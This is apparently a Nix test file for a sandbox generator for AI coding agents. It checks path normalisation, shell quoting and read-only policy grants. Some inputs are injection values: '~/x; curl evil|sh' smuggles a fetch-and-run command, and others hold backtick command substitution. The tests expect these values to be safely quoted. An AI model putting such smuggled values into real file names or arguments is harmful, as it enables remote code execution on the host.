# Paths: normalised, kept verbatim in the policy, and the bash quoting rule on exact words
# (tests/nix_library.rs and tests/adversarial.rs decode the same words with bash).
{
  h ? import ./helpers.nix { },
}:
let
  inherit (h.jailgen.internals) paths;

  # The read-only grants of the policy of a jail given `p`.
  agentBinds =
    p:
    (h.policyOf (
      h.jailgen.makeJailedAgent {
        name = "a";
        pkg = h.pkgs.hello;
        configPaths = [ ];
        extraReadonlyDirs = [ p ];
      }
    )).readonly;
in
{
  "test: a plain home path stays readable" = {
    expr = paths.word "~/.config/my-agent";
    expected = "~/.config/my-agent";
  };
  "test: a home path with a space keeps the tilde outside the quotes" = {
    expr = paths.word "~/my dir";
    expected = "~/'my dir'";
  };
  "test: an injection attempt after a tilde is quoted" = {
    expr = paths.word "~/x; curl evil|sh";
    expected = "~/'x; curl evil|sh'";
  };
  "test: a single quote in a home path is closed, escaped and reopened" = {
    expr = paths.word "~/it's";
    expected = "~/'it'\\''s'";
  };
  "test: an absolute path is quoted whole" = {
    expr = paths.word "/srv/a b";
    expected = "'/srv/a b'";
  };
  "test: a bare tilde is the home directory" = {
    expr = paths.word "~";
    expected = "~";
  };
  "test: paths are normalised before quoting" = {
    expr = map paths.normalize [
      "~/a//b/"
      "/srv/./x/"
      "~/"
      "/"
    ];
    expected = [
      "~/a/b"
      "/srv/x"
      "~"
      "/"
    ];
  };
  "test: a home path reaches the policy as it is, normalised, never shell-quoted" = {
    expr = map agentBinds [
      "~/a b"
      "~/a//b;c/"
    ];
    expected = [
      [ "~/a b" ]
      [ "~/a/b;c" ]
    ];
  };
  "test: an absolute path reaches the policy as it is" = {
    expr = agentBinds "/srv/a b";
    expected = [ "/srv/a b" ];
  };
  "test: a dollar or backtick goes in double quotes with those characters escaped" = {
    expr = map paths.word [
      "~/a $b"
      "/srv/`id`"
      "/x/\\\"$"
    ];
    expected = [
      "~/\"a \\$b\""
      "\"/srv/\\`id\\`\""
      "\"/x/\\\\\\\"\\$\""
    ];
  };
  "test: a path with a dollar or backtick reaches the policy as it is and never the wrapper" = {
    expr =
      let
        j = h.jailgen.makeJailedAgent {
          name = "a";
          pkg = h.pkgs.hello;
          configPaths = [ ];
          extraReadonlyDirs = [ "/srv/a $b `id`" ];
        };
      in
      [
        (h.policyOf j).readonly
        (builtins.length (builtins.split "srv/a" j.text))
      ];
    expected = [
      [ "/srv/a $b `id`" ]
      1
    ];
  };
  "test: a state path is a file only with an extension from file-extensions.json" = {
    expr = map paths.isFile [
      "~/.claude.json"
      "~/.claude"
      "~/.config/a.d/x.toml"
      "~/.local/share/amp"
      "~/.config/io.datasette.llm"
      "~/archive.tar.gz"
      "~/.env"
    ];
    expected = [
      true
      false
      true
      false
      false
      false
      true
    ];
  };
}
